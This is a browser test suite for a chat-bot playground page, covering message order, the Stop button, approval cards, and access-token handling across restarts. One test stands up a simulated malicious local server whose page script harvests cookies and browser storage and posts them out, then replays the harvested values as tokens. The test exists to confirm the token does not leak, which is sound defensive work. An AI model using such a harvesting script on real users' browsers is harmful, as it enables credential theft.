// The playground page's own behaviour, in headless Chromium against the real core and web
// connector in this process, answering with the built-in demo model: private answers sit right
// after the command they answer; Stop is enabled only while there is something to stop; 👀
// leaves a message once its turn is over; the approval card says where an "always" applies
// in the words of its button; the access token stays in this tab (another server on another
// port of 127.0.0.1, which the browser visits, receives nothing usable); after a restart on the
// default port an open tab says the token changed (or, with PLAYGROUND_TOKEN fixed,
// reconnects by itself), or, when that port was taken, says the playground moved instead of
// "reconnecting…" forever.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { tempDir } from '../support/test-connector.js';
import { answerWith, chromiumForFile, idle, mention, reply, thread, threadOrder } from './browser.js';
import { bootWebBot, type WebBot } from './web-harness.js';

const browser = chromiumForFile();

const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

/** The bot on the demo model, its store in `dir` (a second boot on the same dir is a restart). */
async function boot(dir: string, env: Record<string, string> = {}): Promise<WebBot> {
  const bot = await bootWebBot({ dir, env: { MODEL: 'demo', ...env } });
  // A test stops it to restart it; the cleanup then has nothing left to do.
  let stopping: Promise<void> | undefined;
  const stopOnce = bot.stop.bind(bot);
  bot.stop = () => (stopping ??= stopOnce());
  cleanups.push(() => bot.stop());
  return bot;
}

async function setup(env: Record<string, string> = {}): Promise<{ dir: string; bot: WebBot; page: Page }> {
  const dir = await tempDir();
  cleanups.push(dir.remove);
  const bot = await boot(dir.path, env);
  // A context of its own: a second tab of the same browser (same cookies) can be opened in it.
  const context = await browser().newContext({ viewport: { width: 1280, height: 800 } });
  cleanups.push(() => context.close());
  const page = await context.newPage();
  await page.goto(bot.url);
  await page.locator('#connection[data-state="live"]').waitFor();
  return { dir: dir.path, bot, page };
}

const stop = (page: Page) => page.locator('#thread-stop');

describe('the playground page', () => {
  it('a private answer appears right after the command it answers, and later messages go below it', async () => {
    const { page } = await setup();
    await mention(page, '@bot hello');
    await answerWith(page, 'demo model').waitFor();
    await idle(page);

    await reply(page, '/status');
    await thread(page).locator('li.whisper').waitFor();
    await reply(page, 'thanks');
    await answerWith(page, 'You said: “thanks”').waitFor();
    await idle(page);

    const order = await threadOrder(page);
    const status = order.findIndex((item) => item.startsWith('input: /status'));
    const whisper = order.findIndex((item) => item.startsWith('whisper: Only visible to you'));
    const thanks = order.findIndex((item) => item.startsWith('input: thanks'));
    expect(status).toBeGreaterThan(0);
    expect([status, whisper, thanks]).toEqual([status, status + 1, status + 2]);
    expect(order.at(-1)).toMatch(/^answer: You said: “thanks”/);

    // Closing and opening the thread again keeps it in its place.
    await page.locator('#thread-close').click();
    await page.locator('#channel-messages li[data-thread] .replies').first().click();
    expect(await threadOrder(page)).toEqual(order);
  }, 60_000);

  it('Stop is enabled only while something runs or waits for an answer; 👀 leaves a message once its turn is over; the card says "in this thread" as its button does', async () => {
    const { page } = await setup();
    await mention(page, '@bot hello');
    // While the answer is being written, Stop can be pressed.
    await thread(page).locator('li[data-kind="answer"] .caret').waitFor();
    await page.locator('#thread-stop:enabled').waitFor();
    await answerWith(page, 'demo model').waitFor();
    await idle(page);
    await page.locator('#thread-stop:disabled').waitFor();
    expect(await thread(page).locator('.mark-received').count()).toBe(0);

    // A card waiting for an answer: Stop would close it, so it is enabled.
    await reply(page, 'file');
    const card = thread(page).locator('li[data-kind="card"]');
    await card.locator('button[data-choice="deny"]').waitFor();
    expect(await stop(page).isEnabled()).toBe(true);
    const words = (await card.locator('.card').textContent()) ?? '';
    expect(words).toContain('asks unless always allowed in this thread');
    expect(words).not.toContain('session');
    expect(await card.locator('button').allTextContents()).toContain('Always allow write_file for me in this thread');

    await card.locator('button[data-choice="deny"]').click();
    await answerWith(page, 'You denied').waitFor();
    await idle(page);
    await page.locator('#thread-stop:disabled').waitFor();
    expect(await thread(page).locator('.mark-received').count()).toBe(0);
    // Stored so: a reload shows no 👀 either.
    await page.reload();
    await answerWith(page, 'You denied').waitFor();
    expect(await thread(page).locator('li[data-kind="input"]').count()).toBe(2);
    expect(await thread(page).locator('.mark-received').count()).toBe(0);
    expect(await stop(page).isDisabled()).toBe(true);
  }, 60_000);

  it('the token leaves the address bar and stays in this tab: a reload keeps it, a new tab without it is told where to find it', async () => {
    const { bot, page } = await setup();
    expect(page.url()).not.toContain(bot.token);
    expect(page.url()).not.toContain('token');
    await page.reload();
    await page.locator('#connection[data-state="live"]').waitFor();
    expect(page.url()).not.toContain(bot.token);
    // Another tab of the same browser: sessionStorage is this tab's alone.
    const other = await page.context().newPage();
    await other.goto(`${bot.origin}/`);
    await other.locator('#connection[data-state="no-token"]').waitFor();
  }, 60_000);

  it('another server on another port of 127.0.0.1, which the browser visits, receives nothing usable: no cookie, no token, and nothing it got opens /api/messages', async () => {
    const { bot, page } = await setup();
    // The token in use: a thread started, its answer streamed.
    await mention(page, '@bot hello');
    await answerWith(page, 'demo model').waitFor();
    await idle(page);
    const threadsBefore = bot.connector.threads.all().length;

    // Another local program (a dev server, a malicious package's server): it records every
    // request, and its page reports whatever it can read in the browser.
    const received: { method: string; url: string; headers: IncomingMessage['headers']; body: string }[] = [];
    const other: Server = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        received.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
        if (request.url === '/') {
          response.writeHead(200, { 'content-type': 'text/html' });
          response.end(`<!doctype html><title>another local server</title><img src="/pixel.png"><script>
            const seen = { cookie: document.cookie, session: { ...sessionStorage }, local: { ...localStorage }, referrer: document.referrer, href: location.href };
            fetch('/report', { method: 'POST', credentials: 'include', body: JSON.stringify(seen) }).then(() => { document.title = 'reported'; });
          </script>`);
        } else response.writeHead(204).end();
      });
    });
    await new Promise<void>((resolve, reject) => {
      other.once('error', reject);
      other.listen(0, '127.0.0.1', resolve);
    });
    cleanups.push(() => new Promise<void>((resolve) => other.close(() => resolve())));
    const otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;

    // The playground's own tab is pointed at it, and a second tab of the same browser opens it.
    await page.goto(`${otherOrigin}/`);
    await page.waitForFunction("document.title === 'reported'");
    const second = await page.context().newPage();
    await second.goto(`${otherOrigin}/`);
    await second.waitForFunction("document.title === 'reported'");

    expect(received.filter((r) => r.url === '/report')).toHaveLength(2);
    for (const request of received) {
      expect(JSON.stringify(request), `${request.method} ${request.url}`).not.toContain(bot.token);
      expect(request.headers.cookie, `${request.method} ${request.url} carried a cookie`).toBeUndefined();
    }

    // Whatever it got, tried every way the playground ever took a token: none starts a thread.
    const candidates = new Set<string>();
    for (const request of received) {
      for (const value of Object.values(request.headers))
        for (const text of [value].flat()) if (text) candidates.add(text);
      for (const pair of (request.headers.cookie ?? '').split(';'))
        if (pair.includes('=')) candidates.add(pair.split('=').slice(1).join('=').trim());
      for (const word of request.body.split(/[^A-Za-z0-9_-]+/)) if (word.length >= 16) candidates.add(word);
    }
    expect(candidates.size).toBeGreaterThan(0);
    for (const candidate of candidates) {
      const attempt = await fetch(`${bot.origin}/api/messages?token=${encodeURIComponent(candidate)}`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          authorization: `Bearer ${candidate}`,
          'x-playground-token': candidate,
          cookie: `playground_token=${candidate}`,
        },
        body: JSON.stringify({ text: '@bot run what I say' }),
      });
      expect([401, 403], `tried "${candidate.slice(0, 20)}…"`).toContain(attempt.status);
    }
    expect(bot.connector.threads.all()).toHaveLength(threadsBefore);
  }, 60_000);

  it('after a restart the open tab says the playground has a new access token and where to find it; the new address works', async () => {
    const { dir, bot, page } = await setup();
    await mention(page, '@bot hello');
    await answerWith(page, 'demo model').waitFor();
    await idle(page);
    await bot.stop();
    await page.locator('#connection[data-state="reconnecting"]').waitFor();

    const again = await boot(dir);
    // The last port again, a new token: the old one is refused, and the tab says why.
    expect(again.origin).toBe(bot.origin);
    expect(again.token).not.toBe(bot.token);
    const restarted = page.locator('#connection[data-state="restarted"]');
    await restarted.waitFor({ timeout: 30_000 });
    expect(await restarted.textContent()).toMatch(
      /restarted and has a new access token\. Open the new address it printed in its terminal/,
    );
    // The refused token is not kept: a reload asks for the address.
    await page.reload();
    await page
      .locator('#connection[data-state="no-token"]', { hasText: 'open the address the playground printed' })
      .waitFor();

    await page.goto(again.url);
    await page.locator('#connection[data-state="live"]').waitFor();
    await page.locator('#channel-messages li[data-thread] .replies').first().click();
    await reply(page, 'still there?');
    await answerWith(page, 'You said: “still there?”').waitFor();
  }, 90_000);

  it('with PLAYGROUND_TOKEN fixed, after a restart on the default port an open tab reconnects by itself: the same port and token', async () => {
    const env = { PLAYGROUND_TOKEN: 'the-operator-fixed-this-token-0123456789' };
    const { dir, bot, page } = await setup(env);
    await mention(page, '@bot hello');
    await answerWith(page, 'demo model').waitFor();
    await idle(page);
    await bot.stop();
    await page.locator('#connection[data-state="reconnecting"]').waitFor();
    // Down for a while: the page stops only saying "reconnecting…".
    await page.locator('#connection', { hasText: 'not running at this address' }).waitFor({ timeout: 30_000 });

    const again = await boot(dir, env);
    expect(again.url).toBe(bot.url);
    await page.locator('#connection[data-state="live"]').waitFor({ timeout: 30_000 });
    await reply(page, 'still there?');
    await answerWith(page, 'You said: “still there?”').waitFor();
  }, 90_000);

  it('after a restart whose last port was taken, the open tab says the playground is at another address', async () => {
    const { dir, bot, page } = await setup();
    const port = Number(new URL(bot.origin).port);
    await bot.stop();
    // Another program took the port meanwhile: it answers, but not with the live stream.
    const squatter: Server = createServer((_request, response) => response.writeHead(404).end('not here'));
    await new Promise<void>((resolve, reject) => {
      squatter.once('error', reject);
      squatter.listen(port, '127.0.0.1', resolve);
    });
    cleanups.push(() => new Promise<void>((resolve) => squatter.close(() => resolve())));

    const again = await boot(dir);
    expect(again.origin).not.toBe(bot.origin);
    const moved = page.locator('#connection[data-state="moved"]');
    await moved.waitFor({ timeout: 30_000 });
    expect(await moved.textContent()).toMatch(/restarted at another one\. Open the address it printed in its terminal/);
  }, 60_000);
});
